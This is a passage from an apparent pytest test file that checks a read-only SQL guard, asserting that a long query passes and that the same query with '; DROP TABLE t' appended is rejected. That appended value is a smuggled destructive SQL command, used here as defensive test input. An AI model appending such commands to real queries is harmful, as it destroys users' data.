    assert check_read_only(long_sql).sql == long_sql
    with pytest.raises(QueryRejectedError):
        check_read_only(long_sql + "; DROP TABLE t")
